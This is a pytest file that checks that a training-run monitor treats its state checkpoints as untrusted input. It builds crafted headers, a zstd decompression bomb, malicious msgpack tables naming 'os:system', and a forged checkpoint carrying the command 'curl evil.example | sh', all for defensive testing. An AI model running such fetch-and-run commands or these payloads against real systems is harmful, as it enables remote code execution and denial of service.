"""The reducer-state checkpoint read like untrusted input (issue 50 item 2, issue 53 items 3-6): this
project's own encoding (store/state_codec.py), crafted headers and payloads refused in one line with
the journal reduced instead, no code run, only a private file of this user believed, an unusable
one rebuilt once and replaced."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import pwd
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest
import zstandard
from conftest import DATA, REPO, base_env
from state_canon import canon

from neurondesk.core.events import run_events as ev
from neurondesk.core.reduce.state import RunState
from neurondesk.recorder.checkpointing import Checkpointer
from neurondesk.sources.listing import listing
from neurondesk.sources.rebuild import resume, state_from_run_dir
from neurondesk.store import checkpoint as ck
from neurondesk.store import state_codec as codec
from neurondesk.store.checkpoint_header import MAX_STATE
from neurondesk.store.journal import JournalWriter, iter_journal
from neurondesk.store.rundir import RunPaths

JOURNALS = DATA / "journals"


def _events(n: int = 60) -> list[ev.Event]:
    out: list[ev.Event] = [ev.RunStarted(t=100.0, run_id="sf", command=["python", "train.py", "--lr", "3e-4"]),
                           ev.ProcessAttached(t=100.0, pid=11, rank=0)]
    out += [ev.StepEnded(t=100.0 + 0.1 * (i + 1), pid=11, step=i, duration_s=0.1, samples=8, tokens=64,
                         data_wait_s=0.001, compiles=int(i == 0)) for i in range(n)]
    out.append(ev.RunFinished(t=100.0 + 0.1 * (n + 1), exit_code=0))
    return out


def _finished_run(tmp_path: Path) -> tuple[Path, RunState]:
    """A finished run whose checkpoint was written as the recorder writes its last one: after the
    summary asked for the job identity (JobReducer caches it: issue 53 item 3)."""
    run = tmp_path / "run"
    run.mkdir(mode=0o700)
    writer = JournalWriter(run / "events.jsonl", segment_bytes=None)
    state = RunState()
    for e in _events():
        writer.write(e)
        state.apply(e)
    writer.flush()
    state.parts.job.identity()
    assert Checkpointer(run, every_events=1).after_flush(state, writer) is None
    writer.close()
    RunPaths(run).segment_checkpoint(0).unlink()  # the same state again: only the latest here
    return run, state


def _full(run: Path) -> RunState:
    state = RunState()
    for e in iter_journal(run / "events.jsonl", []):
        state.apply(e)
    return state


def _parts(path: Path) -> tuple[bytes, bytes]:
    data = path.read_bytes()
    at = data.index(b"\n", len(ck.MAGIC)) + 1
    return data[len(ck.MAGIC):at], data[at:]


def _plant(path: Path, header: bytes | dict, payload: bytes) -> None:
    if isinstance(header, dict):
        header = json.dumps(header).encode() + b"\n"
    path.write_bytes(ck.MAGIC + header + payload)
    os.chmod(path, 0o600)


def _with_payload(path: Path, table: bytes, **frame) -> None:
    """``table`` as the checkpoint's state, under a header whose digest and sizes match it."""
    header, _ = _parts(path)
    body = zstandard.ZstdCompressor(**frame).compress(table)
    h = json.loads(header)
    h.update(payload_bytes=len(body), state_bytes=len(table),
             payload_blake2b=hashlib.blake2b(body, digest_size=16).hexdigest())
    _plant(path, h, body)


# ---------------------------------------------------------------- the encoding
@pytest.mark.parametrize("name", sorted(p.name for p in JOURNALS.iterdir()))
def test_the_owned_encoding_round_trips_every_recorded_journals_state_with_its_shared_parts(name):
    state = RunState()
    for e in iter_journal(JOURNALS / name / "events.jsonl", []):
        state.apply(e)
    state.parts.job.identity()  # a cached msgspec Struct (pickled through msgspec._utils.rebuild before)
    back = codec.decode_state(codec.encode_state(state))
    assert canon(back) == canon(state)
    assert back.parts.steps._run is back.parts.run  # one reducer read by another stays one object
    for e in _events(5)[2:]:  # and it reduces on: its dispatch was rebuilt
        back.apply(e)
        state.apply(e)
    assert back.reduce_errors == 0 and canon(back) == canon(state)


def test_a_state_fed_every_event_kind_round_trips():
    """Every kind of event there is (test_codec's samples: devices, TorchNeuron, GPUs, checkpoints,
    attempts ...) applied after a recorded run: every record a reducer keeps has an encoded form."""
    from test_codec import SAMPLES

    state = RunState()
    for e in iter_journal(JOURNALS / "dynamic" / "events.jsonl", []):
        state.apply(e)
    for e in SAMPLES:
        state.apply(e)
    state.parts.job.identity()
    back = codec.decode_state(codec.encode_state(state))
    assert canon(back) == canon(state)


def test_a_state_holding_something_outside_neurondesk_core_is_not_written(tmp_path):
    run, state = _finished_run(tmp_path)
    state.parts.run.command = [object()]  # a value the encoding has no form for
    with pytest.raises(codec.StateCodecError, match="not a class of neurondesk.core"):
        codec.encode_state(state)
    words = Checkpointer(run, every_events=1).after_flush(state, JournalWriter(run / "x.jsonl", segment_bytes=None),
                                                         force=True)
    assert "checkpoint not written" in words and "not a class of neurondesk.core" in words


def test_a_state_nested_past_the_recursion_limit_is_not_written_and_the_recorder_goes_on(tmp_path):
    run, state = _finished_run(tmp_path)
    deep: list = []
    for _ in range(sys.getrecursionlimit() * 2):
        deep = [deep]
    state.parts.run.config = {"nested": deep}  # a workload's config of absurd depth
    with pytest.raises(codec.StateCodecError, match="too deep"):
        codec.encode_state(state)


def test_a_finished_run_loads_its_own_checkpoint_with_no_notice(tmp_path):
    run, state = _finished_run(tmp_path)
    notes: list[str] = []
    resumed, start = resume(run, run / "events.jsonl", notes=notes)
    assert notes == [] and start == (0, (run / "events.jsonl").stat().st_size)
    assert canon(resumed) == canon(state)


# ---------------------------------------------------------------- crafted headers
HEADER_CASES = [
    ("payload_bytes", "Infinity"), ("payload_bytes", "1e300"), ("payload_bytes", "2e11"), ("payload_bytes", "-1"),
    ("payload_bytes", '"12"'), ("state_bytes", "1e300"), ("state_bytes", str(2**40)), ("offset", "1e300"),
    ("offset", "-5"), ("segment", "Infinity"), ("segment", '"0"'), ("events", "[1]"), ("journal_crc", "null"),
    ("journal_crc", str(2**40)), ("first_t", "Infinity"), ("max_t", "-1e300"), ("listing", "5"),
    ("format", "1e300"), ("format", "Infinity"), ("payload_blake2b", "7"),
]


def _craft(path: Path, field: str, raw: str) -> None:
    header, payload = _parts(path)
    h = json.loads(header)
    assert field in h
    text = json.dumps({k: ("@@" if k == field else v) for k, v in h.items()}).replace('"@@"', raw)
    _plant(path, text.encode() + b"\n", payload)


@pytest.mark.parametrize("field, raw", HEADER_CASES)
def test_a_crafted_header_number_is_one_line_and_the_journal_is_reduced(tmp_path, field, raw):
    run, state = _finished_run(tmp_path)
    _craft(RunPaths(run).checkpoint, field, raw)
    assert listing(run, 200.0).step == state.steps_done  # `ls`: no traceback either
    notes: list[str] = []
    got, problems = state_from_run_dir(run, notes=notes)
    assert problems == [] and len(notes) == 1 and "checkpoint.bin" in notes[0] and "\n" not in notes[0]
    assert "format" in notes[0] or "header" in notes[0], notes
    assert canon(got) == canon(_full(run))


@pytest.mark.parametrize("command", ["summary", "advise", "report", "compare", "export", "attach"])
def test_every_reader_of_a_crafted_checkpoint_says_one_line_and_no_traceback(tmp_path, command):
    run, _ = _finished_run(tmp_path)
    _craft(RunPaths(run).checkpoint, "payload_bytes", "1e300")
    args = {"summary": [str(run)], "advise": [str(run)], "report": [str(run), "-o", str(tmp_path / "r.html")],
            "compare": [str(run), str(run)], "export": [str(run), "-o", str(tmp_path / "t.json")],
            "attach": [str(run), "--headless"]}[command]
    p = subprocess.run([sys.executable, "-m", "neurondesk.cli", command, *args], capture_output=True, text=True,
                       cwd=REPO, env=base_env(tmp_path), timeout=120)
    assert "Traceback" not in p.stderr, p.stderr
    said = [line for line in p.stderr.splitlines() if "checkpoint" in line]
    assert len(said) <= 1 and all("payload_bytes" in line for line in said), p.stderr


# ---------------------------------------------------------------- crafted payloads
def test_a_zstd_frame_declaring_a_gibibyte_is_refused_before_it_is_decompressed(tmp_path):
    run, _ = _finished_run(tmp_path)
    path = RunPaths(run).checkpoint
    header, _ = _parts(path)
    cobj = zstandard.ZstdCompressor(level=1).compressobj(size=1 << 30)
    zeros = bytes(1 << 20)
    body = b"".join(cobj.compress(zeros) for _ in range(1024)) + cobj.flush()
    assert len(body) < 200_000  # about 33 KB, as in issue 53
    h = json.loads(header)
    for state_bytes, why in ((h["state_bytes"], "declares 1,073,741,824 bytes"), (1 << 30, "header is not valid")):
        h.update(payload_bytes=len(body), state_bytes=state_bytes,
                 payload_blake2b=hashlib.blake2b(body, digest_size=16).hexdigest())
        _plant(path, h, body)
        notes: list[str] = []
        state_from_run_dir(run, notes=notes)
        assert len(notes) == 1 and why in notes[0], notes
        assert MAX_STATE < 1 << 30


def test_a_frame_without_a_declared_size_is_refused(tmp_path):
    run, state = _finished_run(tmp_path)
    _with_payload(RunPaths(run).checkpoint, codec.encode_state(state), write_content_size=False)
    notes: list[str] = []
    state_from_run_dir(run, notes=notes)
    assert len(notes) == 1 and "declares" in notes[0]


@pytest.mark.parametrize("table, why", [
    (b"\x91" * 200_000 + b"\xc0", "not a state table"),  # 200,000 nested arrays: the schema stops at the 2nd
    (msgspec.msgpack.encode([[1, [(i - 1,), (i - 1,)]] if i else [1, []] for i in range(60)]), "not a run state"),
    (msgspec.msgpack.encode([[8, ["a", 1], "os:system"]]), "not a class of neurondesk.core"),
    (msgspec.msgpack.encode([[8, ["a", 1], "neurondesk.core.reduce.state:RunState"], [0, [(5,)]]]), "out of the table"),
    (msgspec.msgpack.encode([[7, [], "u", -1, b"xx"]]), "typecode"),
    (msgspec.msgpack.encode([[8, [], "neurondesk.core.reduce.state:RunState"], [1, [(2,)]], [1, []]]), "not built yet"),
])
def test_a_crafted_state_table_is_refused_in_one_line_without_recursing_or_expanding(tmp_path, table, why):
    run, _ = _finished_run(tmp_path)
    _with_payload(RunPaths(run).checkpoint, table)
    notes: list[str] = []
    got, _ = state_from_run_dir(run, notes=notes)
    assert len(notes) == 1 and "cannot be loaded" in notes[0] and why in notes[0], notes
    assert canon(got) == canon(_full(run))


# ---------------------------------------------------------------- whose file it is
def _other_user() -> int:
    name = "ndstatefile"
    try:
        return pwd.getpwnam(name).pw_uid
    except KeyError:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True)
        return pwd.getpwnam(name).pw_uid


def _forge(run: Path) -> None:
    """A checkpoint of a state with another command, at the true journal position (its CRC matches)."""
    forged = _full(run)
    forged.parts.run.command = ["curl", "evil.example", "|", "sh"]
    ck.write_checkpoint(run, forged, run / "events.jsonl", (0, (run / "events.jsonl").stat().st_size))


@pytest.mark.parametrize("how", ["world-writable", "group-writable", "another user's"])
def test_a_checkpoint_not_private_to_this_user_is_not_believed_and_is_replaced(tmp_path, how):
    if how == "another user's" and os.geteuid() != 0:
        pytest.skip("making a second user needs root")
    run, state = _finished_run(tmp_path)
    path = RunPaths(run).checkpoint
    _forge(run)
    if how == "another user's":
        os.chown(path, _other_user(), -1)
    else:
        os.chmod(path, 0o602 if how == "world-writable" else 0o620)
    notes: list[str] = []
    got, _ = state_from_run_dir(run, notes=notes)
    assert got.command == ["python", "train.py", "--lr", "3e-4"]
    assert len(notes) == 1 and "not believed" in notes[0] and "rebuilt" in notes[0], notes
    assert ("owned by uid" if how == "another user's" else "mode 06") in notes[0]
    st = path.stat()
    assert st.st_uid == os.geteuid() and st.st_mode & 0o777 == 0o600  # replaced by the user's own
    again: list[str] = []
    assert state_from_run_dir(run, notes=again)[0].command == got.command and again == []


def test_per_segment_checkpoints_this_version_cannot_read_go_with_the_rebuild_and_replay_until_is_quiet(tmp_path):
    run, _ = _finished_run(tmp_path)
    old = RunPaths(run).segment_checkpoint(0)
    header, payload = _parts(RunPaths(run).checkpoint)
    _plant(old, {**json.loads(header), "format": 1}, payload)  # as an older neurondesk left it
    _plant(RunPaths(run).checkpoint, json.loads(header) | {"format": 1}, payload)
    notes: list[str] = []
    state_from_run_dir(run, notes=notes)
    assert len(notes) == 1 and "1 unreadable per-segment one(s) removed" in notes[0], notes
    assert not old.exists() and RunPaths(run).checkpoint.exists()
    quiet: list[str] = []
    resume(run, run / "events.jsonl", until_t=1e10, notes=quiet)  # replay --until's start
    assert quiet == []


def test_a_live_recorders_folder_is_never_rewritten_by_a_reader(tmp_path):
    run, _ = _finished_run(tmp_path)
    path = RunPaths(run).checkpoint
    path.write_bytes(b"NDCHECKPOINT\n{")
    fd = os.open(RunPaths(run).recorder_lock, os.O_RDWR | os.O_CREAT, 0o600)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a live recorder holds it
        notes: list[str] = []
        state_from_run_dir(run, notes=notes)
    finally:
        os.close(fd)
    assert len(notes) == 1 and "whole journal was reduced instead" in notes[0] and "rebuilt" not in notes[0]
    assert path.read_bytes() == b"NDCHECKPOINT\n{"


# ---------------------------------------------------------------- a real run, the newest libraries
@pytest.mark.latest
def test_a_real_finished_runs_summary_loads_its_own_checkpoint_with_no_notice(tmp_path):
    """Issue 50 item 2 / 53 item 3: under msgspec 0.23 every summary of a finished run said
    'checkpoint not used ... msgspec._utils.rebuild is not part of a run state'."""
    from conftest import neurondesk_run

    run = neurondesk_run(tmp_path, ["--preset", "demo", "--device", "cpu", "--steps", "6"])
    assert run.returncode == 0, run.stderr[-2000:]
    assert RunPaths(run.run_dir).checkpoint.exists()
    p = subprocess.run([sys.executable, "-m", "neurondesk.cli", "summary", str(run.run_dir)], capture_output=True,
                       text=True, cwd=REPO, env=base_env(tmp_path), timeout=120)
    assert p.returncode == 0, p.stderr
    assert "checkpoint" not in p.stderr, p.stderr
    found = ck.best_checkpoint(run.run_dir, RunPaths(run.run_dir).events)
    assert found is not None and found.state.finished and found.state.parts.job.identity() is not None
